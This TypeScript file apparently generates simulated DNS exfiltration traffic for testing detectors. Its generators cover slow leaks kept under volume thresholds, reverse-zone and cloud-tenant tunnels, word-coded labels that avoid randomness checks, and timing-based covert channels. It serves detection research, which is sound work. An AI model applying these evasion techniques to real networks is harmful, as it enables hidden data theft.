// Data that leaves slowly, in small amounts, in unusual places or in words: what counting volume in a window doesn't see.
import { a, pointer, Rtype, txt, wireName } from '../worlds/dns/answers.ts';
import { addressOf, attackOf, type DnsAttack, type DnsPlace, roomBeside } from './dns-attack.ts';
import { codecs, dotted, encodeBits } from './dns-codecs.ts';

/** Steady leak at `bytesPerSecond`, one question each `gapMicros`, until the time is over. */
export function slowLeak(
  place: DnsPlace,
  options: { bytesPerSecond: number; gapMicros: number; type?: 'A' | 'TXT' | 'AAAA' },
): DnsAttack {
  const perQuery = Math.max(1, Math.round((options.bytesPerSecond * options.gapMicros) / 1e6));
  const questions = Math.floor((place.untilMicros - place.fromMicros) / options.gapMicros);
  const facts = { what: 'dns-exfiltration', payloadBytes: perQuery * questions };
  return attackOf(place, facts, function* (sender, payload) {
    const type = Rtype[options.type ?? 'A'];
    const answers = type === Rtype.TXT ? [txt('ok', 1)] : type === Rtype.A ? [addressOf(place.zone, 1)] : [];
    for (let o = 0; o < payload.length; o += perQuery) {
      const chunk = payload.subarray(o, o + perQuery);
      yield sender.send(dotted(encodeBits(codecs.base32, chunk), 60), type, answers, chunk.length, 0);
      sender.wait(options.gapMicros, 0.05);
    }
  });
}

/** A secret of at most 144 octets in a few names, hours apart where asked: below every published volume threshold. */
export function smallLeak(
  place: DnsPlace,
  options: { bytes: number; perQuery: number; gapMicros: number; codec?: 'hex' | 'base32' },
): DnsAttack {
  if (options.bytes > 144) throw new RangeError('a small leak has at most 144 octets');
  return attackOf(place, { what: 'dns-exfiltration', payloadBytes: options.bytes }, function* (sender, payload) {
    const codec = codecs[options.codec ?? 'hex'];
    for (let o = 0, n = 0; o < payload.length; o += options.perQuery, n++) {
      const chunk = payload.subarray(o, o + options.perQuery);
      yield sender.send(
        `${dotted(encodeBits(codec, chunk), 60)}.${n}`,
        Rtype.A,
        [addressOf(place.zone)],
        chunk.length,
        0,
      );
      sender.wait(options.gapMicros, 0.3);
    }
  });
}

/**
 * A tunnel inside a reverse zone that has been delegated to the attacker (RFC 2317 has labels of any kind there): PTR
 * questions whose labels look like more of the address. The zone is `y.x.in-addr.arpa`.
 */
export function reverseTunnel(
  place: DnsPlace,
  options: { bytes: number; gapMicros: number; decimal: boolean },
): DnsAttack {
  return attackOf(place, { what: 'dns-tunnel', payloadBytes: options.bytes }, function* (sender, payload) {
    // Decimal labels hold an octet each, as an address does; else hex in one label.
    const perQuery = options.decimal ? 8 : 28;
    const target = wireName('host.example');
    for (let o = 0; o < payload.length; o += perQuery) {
      const chunk = payload.subarray(o, o + perQuery);
      const labels = options.decimal ? Array.from(chunk, String).join('.') : encodeBits(codecs.hex, chunk);
      yield sender.send(labels, Rtype.PTR, [pointer(Rtype.PTR, target, 0)], chunk.length, 0);
      sender.wait(options.gapMicros, 0.3);
    }
  });
}

/** A tunnel under a name of a dynamic-DNS or cloud provider: the registered domain is a good one. */
export function tenantTunnel(place: DnsPlace, options: { bytes: number; gapMicros: number }): DnsAttack {
  return attackOf(place, { what: 'dns-tunnel', payloadBytes: options.bytes }, function* (sender, payload) {
    const perQuery = Math.min(100, Math.floor(((roomBeside(place.zone) - 6) * 5) / 8));
    for (let o = 0; o < payload.length; o += perQuery) {
      const chunk = payload.subarray(o, o + perQuery);
      const down = sender.bytes(60);
      const answer = [txt(encodeBits(codecs.base64, down), 1)];
      yield sender.send(dotted(encodeBits(codecs.base32, chunk), 60), Rtype.TXT, answer, chunk.length, down.length);
      sender.wait(options.gapMicros, 0.3);
    }
  });
}

/** Sixteen words a nibble: labels that no measure of randomness finds strange. */
export const codeWords = 'app blog cdn docs edge files home img info mail news shop static test video web'.split(' ');

/** Each octet is two common words; a name holds `perQuery` of them. */
export function wordCoded(place: DnsPlace, options: { bytes: number; perQuery: number; gapMicros: number }): DnsAttack {
  return attackOf(place, { what: 'dns-exfiltration', payloadBytes: options.bytes }, function* (sender, payload) {
    for (let o = 0; o < payload.length; o += options.perQuery) {
      const chunk = payload.subarray(o, o + options.perQuery);
      const labels = Array.from(chunk, (octet) => `${codeWords[octet >>> 4]}-${codeWords[octet & 15]}`).join('.');
      yield sender.send(labels, Rtype.A, [addressOf(place.zone)], chunk.length, 0);
      sender.wait(options.gapMicros, 0.2);
    }
  });
}

/** Each bit is one of two names: nothing but their order tells anything. */
export function twoNames(
  place: DnsPlace,
  options: { bytes: number; gapMicros: number; names: readonly [string, string] },
): DnsAttack {
  return attackOf(place, { what: 'dns-covert-channel', payloadBytes: options.bytes }, function* (sender, payload) {
    for (let bit = 0; bit < 8 * payload.length; bit++) {
      const one = (payload[bit >>> 3]! >>> (7 - (bit & 7))) & 1;
      yield sender.send(options.names[one]!, Rtype.A, [a(0xc6121111 + one, 0)], bit % 8 === 7 ? 1 : 0, 0);
      sender.wait(options.gapMicros, 0.1);
    }
  });
}

/** Always the same name: a gap of `zeroMicros` or `oneMicros` before the next question is a bit. */
export function timedGaps(
  place: DnsPlace,
  options: { bytes: number; zeroMicros: number; oneMicros: number; name: string },
): DnsAttack {
  return attackOf(place, { what: 'dns-covert-channel', payloadBytes: options.bytes }, function* (sender, payload) {
    yield sender.send(options.name, Rtype.A, [a(0xc6121212, 0)], 0, 0);
    for (let bit = 0; bit < 8 * payload.length; bit++) {
      const one = (payload[bit >>> 3]! >>> (7 - (bit & 7))) & 1;
      sender.wait(one === 1 ? options.oneMicros : options.zeroMicros, 0.04);
      yield sender.send(options.name, Rtype.A, [a(0xc6121212, 0)], bit % 8 === 7 ? 1 : 0, 0);
    }
  });
}
